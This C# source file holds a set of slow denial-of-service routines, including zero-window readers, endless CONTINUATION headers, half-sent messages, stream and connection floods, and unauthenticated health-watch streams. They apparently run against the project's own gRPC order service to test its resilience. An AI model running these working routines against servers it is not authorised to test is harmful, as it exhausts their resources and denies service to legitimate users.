// What holds something of the server for long and does nothing: streams that are not read, messages and headers that are not finished,
// connections that are silent. Pauses are the pace of each: how slow it is.

namespace OrderEngine.Attacks;

internal static class Slow
{
    private const int CallsAtOnce = 100;
    private const int FrameBytes = 16_384;
    private static readonly TimeSpan Pace = TimeSpan.FromSeconds(1);

    /// <summary>Asks for much with a window of nothing: what is answered must lie somewhere.</summary>
    public static async Task ReadersAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until, window: 0);
        await AskAsync(wire, target, counters, until);
        await wire.Ended.WaitAsync(until);
    }

    /// <summary>The same, but what is not read is the socket.</summary>
    public static async Task SocketReadersAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until, reads: false, window: int.MaxValue);
        await wire.SendAsync(Frames.WindowUpdate(0, int.MaxValue - 65_535), until);
        while (true)
        {
            await AskAsync(wire, target, counters, until);
            await Task.Delay(Pace, until);
        }
    }

    /// <summary>A message of 4 MiB less one byte, and then nothing, in as many calls as there may be.</summary>
    public static async Task HalfMessagesAsync(Target target, Counters counters, CancellationToken until)
    {
        const int Length = 4 * 1024 * 1024;
        await using var wire = await Wire.OpenAsync(target, counters, until);
        var stream = wire.NextStream();
        await wire.SendAsync((byte[])[.. Frames.Call(stream, "/orderengine.v1.OrderService/BulkSubmitOrders", target.Credential), .. Frames.Of(FrameType.Data, 0, stream, Frames.Message([], length: Length))], until);
        var chunk = Frames.Of(FrameType.Data, 0, stream, new byte[FrameBytes]);
        for (var sent = FrameBytes; sent < Length && !wire.Ended.IsCompleted; sent += FrameBytes)
        {
            await wire.SendAsync(chunk, until);
            // The window is a mebibyte, and widens as the server reads.
            if (sent % (512 * 1024) == 0) await Task.Delay(50, until);
        }
        counters.Add("halvesSent");
        await wire.Ended.WaitAsync(until);
    }

    /// <summary>Calls whose message comes a byte at a time.</summary>
    public static async Task WritersAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        var streams = new List<int>();
        for (var i = 0; i < 4; i++)
        {
            var stream = wire.NextStream();
            streams.Add(stream);
            await wire.SendAsync((byte[])[.. Frames.Call(stream, "/orderengine.v1.OrderService/SubmitOrder", target.Credential), .. Frames.Of(FrameType.Data, 0, stream, Frames.Message([], length: 1_000))], until);
        }
        counters.Add("callsOpened", streams.Count);
        while (!wire.Ended.IsCompleted)
        {
            foreach (var stream in streams) await wire.SendAsync(Frames.Of(FrameType.Data, 0, stream, [0]), until);
            await Task.Delay(Pace, until);
        }
    }

    /// <summary>Headers that do not end, without any hurry.</summary>
    public static async Task HeadersAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        // Nothing may come between headers and what continues them.
        await wire.Greeted;
        var stream = wire.NextStream();
        await wire.SendAsync(Frames.Call(stream, "/orderengine.v1.OrderService/SubmitOrder", null, flags: 0), until);
        for (var i = 0; !wire.Ended.IsCompleted; i++)
        {
            await Task.Delay(Pace, until);
            await wire.SendAsync(Frames.Of(FrameType.Continuation, 0, stream, Frames.Literal($"x-{i}", "y")), until);
        }
    }

    /// <summary>A connection on which nothing is ever said, not even a greeting.</summary>
    public static async Task SilentAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.ConnectAsync(target with { IsTls = false }, counters, until);
        wire.BeginReading();
        await wire.Ended.WaitAsync(until);
    }

    /// <summary>Streams that anybody may open, without a key: as many as a connection takes.</summary>
    public static async Task HealthWatchesAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        for (var i = 0; i < 500; i++)
        {
            var stream = wire.NextStream();
            await wire.SendAsync((byte[])[.. Frames.Call(stream, "/grpc.health.v1.Health/Watch", null), .. Frames.Of(FrameType.Data, Frames.EndStream, stream, Frames.Message([]))], until);
            counters.Add("callsOpened");
        }
        await wire.Ended.WaitAsync(until);
    }

    /// <summary>More streams on one connection than it may have, all of the kind that lives long.</summary>
    public static async Task ManyStreamsAsync(Target target, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        for (var i = 0; i < 2_000 && !wire.Ended.IsCompleted; i++)
        {
            await wire.SendAsync(Frames.Call(wire.NextStream(), "/orderengine.v1.OrderService/StreamSubmitOrders", target.Credential), until);
            counters.Add("callsOpened");
        }
        await wire.Ended.WaitAsync(until);
    }

    /// <summary>A connection that greets, and has a call now and then.</summary>
    public static Task ConnectionsAsync(Target target, Counters counters, CancellationToken until) =>
        CallNowAndThenAsync(target, "/grpc.health.v1.Health/Check", counters, until);

    /// <summary>The same with a key: more connections than its holder may have.</summary>
    public static Task ConnectionsWithKeyAsync(Target target, Counters counters, CancellationToken until) =>
        CallNowAndThenAsync(target, "/orderengine.v1.CatalogService/GetChannel", counters, until);

    private static async Task CallNowAndThenAsync(Target target, string path, Counters counters, CancellationToken until)
    {
        await using var wire = await Wire.OpenAsync(target, counters, until);
        while (!wire.Ended.IsCompleted)
        {
            var stream = wire.NextStream();
            await wire.SendAsync((byte[])[.. Frames.Call(stream, path, target.Credential), .. Frames.Of(FrameType.Data, Frames.EndStream, stream, Frames.Message([]))], until);
            counters.Add("callsOpened");
            await Task.WhenAny(wire.Ended, Task.Delay(TimeSpan.FromSeconds(20), until));
        }
    }

    /// <summary>Asks for so many lists, and waits for none of them.</summary>
    public static async Task AskAsync(Wire wire, Target target, Counters counters, CancellationToken until, int calls = CallsAtOnce)
    {
        for (var i = 0; i < calls; i++)
        {
            var stream = wire.NextStream();
            await wire.SendAsync((byte[])[.. Frames.Call(stream, "/orderengine.v1.CatalogService/ListSkus", target.Credential), .. Frames.Of(FrameType.Data, Frames.EndStream, stream, Frames.Message([0x08, 0xe8, 0x07]))], until);
            counters.Add("callsOpened");
        }
    }
}
